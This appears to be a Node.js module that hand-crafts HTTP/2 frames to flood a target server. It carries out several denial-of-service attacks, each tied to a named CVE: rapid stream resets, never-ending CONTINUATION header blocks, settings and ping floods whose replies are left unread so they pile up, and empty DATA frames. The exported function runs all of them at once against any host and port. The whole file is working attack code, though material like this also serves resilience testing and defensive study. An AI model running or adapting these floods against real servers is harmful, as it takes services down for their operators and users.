// HTTP/2 (RFC 9113) by hand: streams that are reset at once (CVE-2023-44487), header blocks that never end (CVE-2024-27316), settings and
// pings to be acknowledged (CVE-2019-9515, CVE-2019-9512), empty frames of data (CVE-2019-9518).
'use strict'
const net = require('node:net')
const frame = (kind, flags, stream, body = Buffer.alloc(0)) => { const head = Buffer.alloc(9); head.writeUIntBE(body.length, 0, 3); head[3] = kind; head[4] = flags; head.writeUInt32BE(stream, 5); return Buffer.concat([head, body]) }
const head = Buffer.from('828684410961' + '2e6578616d706c65', 'hex') // GET / http, :authority a.example
const reset = Buffer.from([0, 0, 0, 8])
const floods = {
  resets: idx => Buffer.concat([frame(1, 5, idx * 2 + 1, head), frame(3, 0, idx * 2 + 1, reset)]),
  continuations: idx => idx ? frame(9, 0, 1, Buffer.alloc(8192, Buffer.from('0001610162', 'hex'))) : frame(1, 1, 1, head),
  settings: () => frame(4, 0, 0),
  pings: () => frame(6, 0, 0, Buffer.alloc(8)),
  empty: idx => idx ? frame(0, 0, 1) : frame(1, 4, 1, head),
}
const flood = (port, host, make) => new Promise(resolve => {
  const socket = net.connect(port, host, () => { socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'); socket.write(frame(4, 0, 0)); more() })
  let idx = 0
  const more = () => { while (!socket.destroyed && idx < 200000) { const block = []; for (let at = 0; at < 500; at += 1) block.push(make(idx++)); if (!socket.write(Buffer.concat(block))) return } if (idx >= 200000) socket.end() }
  socket.on('drain', more).on('error', () => 0).on('close', resolve)
  // Answers are not read, so that they pile up at whoever sends them.
  setTimeout(() => socket.destroy(), 4000)
  if (make !== floods.pings && make !== floods.settings) socket.resume()
})
module.exports = (port, host) => Promise.all(Object.values(floods).map(make => flood(port, host, make)))
